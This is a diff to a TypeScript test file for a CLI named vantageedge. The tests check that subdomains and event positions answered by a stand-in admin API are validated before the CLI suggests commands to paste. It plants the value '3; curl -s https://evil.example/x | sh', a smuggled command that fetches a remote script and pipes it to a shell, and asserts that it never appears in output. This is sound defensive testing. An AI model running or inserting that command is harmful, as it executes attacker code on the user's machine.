@@ -4,26 +4,45 @@ import { closeStandInAdminApis, runCliAgainst, serveStandInAdminApi } from './te
 
 /**
  * The CLI suggests flags to type next from what the admin API answers: `--cursor <next_cursor>` when
- * older entries exist, `--if-version <version>` in a dump's header. Those are cursors and config
- * versions, decimal numbers: an answer holding anything else there (a shell command after a `;`) is
- * not the admin API's, and is never offered to be pasted into a shell.
+ * older entries exist, `--if-version <version>` in a dump's header, `history -t <subdomain>` when a
+ * change's answer was lost. Those are cursors, config versions and DNS labels: an answer holding
+ * anything else there (a shell command after a `;`) is not the admin API's, and is never offered to be
+ * pasted into a shell.
  */
 afterEach(closeStandInAdminApis);
 
 const TENANT = '7b0c2c52-9e42-4a43-9a5c-3c2f4f7b8e11';
 const PLANTED = '3; curl -s https://evil.example/x | sh';
 
-/** A stand-in admin API answering the tenant, and `answer` for every other GET. */
-function adminApi(answer: (url: string) => unknown): Promise<string> {
+/** A stand-in admin API answering the tenant (as `subdomain`), and `answer` for every other request. */
+function adminApi(answer: (url: string) => unknown, subdomain = 'acme'): Promise<string> {
   return serveStandInAdminApi((req, res) => {
     req.resume();
     res.writeHead(200, { 'content-type': 'application/json' });
     const url = req.url ?? '';
     if (url === `/api/v1/tenants/${TENANT}`) {
-      res.end(JSON.stringify({ id: TENANT, name: 'Acme', subdomain: 'acme' }));
+      res.end(JSON.stringify({ id: TENANT, name: 'Acme', subdomain }));
       return;
     }
     res.end(JSON.stringify(answer(url)));
+  });
+}
+
+/** An admin API whose rollback stored the change and lost its answer, at event position `position`. */
+function answerLostApi(position: string, subdomain = 'acme'): Promise<string> {
+  return serveStandInAdminApi((req, res) => {
+    req.resume();
+    if (req.url === `/api/v1/tenants/${TENANT}`) {
+      res.writeHead(200, { 'content-type': 'application/json' });
+      res.end(JSON.stringify({ id: TENANT, name: 'Acme', subdomain }));
+      return;
+    }
+    res.writeHead(409, { 'content-type': 'application/json', 'x-event-position': position });
+    res.end(
+      JSON.stringify({
+        error: { code: 'idempotency_answer_lost', message: 'the answer was lost', details: [] },
+      }),
+    );
   });
 }
 
@@ -72,5 +91,26 @@ describe('flags the CLI suggests from an answer', () => {
       expect(result.code, result.stderr).toBe(EXIT.unavailable);
       expect(`${result.stdout}\n${result.stderr}`).not.toContain('curl');
     }
+  });
+
+  it('a tenant whose subdomain is not a DNS label is refused, never suggested as history -t', async () => {
+    const url = await answerLostApi('77', PLANTED);
+    const result = await runCliAgainst(['rollback', '-t', TENANT, '--to-position', '40'], url);
+    expect(result.code, result.stderr).toBe(EXIT.unavailable);
+    expect(result.stderr).toContain('is not what the admin API answers');
+    expect(`${result.stdout}\n${result.stderr}`).not.toContain('curl');
+  });
+
+  it('a lost answer: an event position that is not a number is not shown', async () => {
+    const url = await answerLostApi(PLANTED);
+    const result = await runCliAgainst(['rollback', '-t', TENANT, '--to-position', '40'], url);
+    expect(result.code, result.stderr).toBe(EXIT.ok);
+    expect(result.stdout).toContain('vantageedge history -t acme shows them');
+    expect(`${result.stdout}\n${result.stderr}`).not.toContain('curl');
+    const shown = await runCliAgainst(
+      ['rollback', '-t', TENANT, '--to-position', '40'],
+      await answerLostApi('77'),
+    );
+    expect(shown.stdout).toContain('(event position 77)');
   });
 });
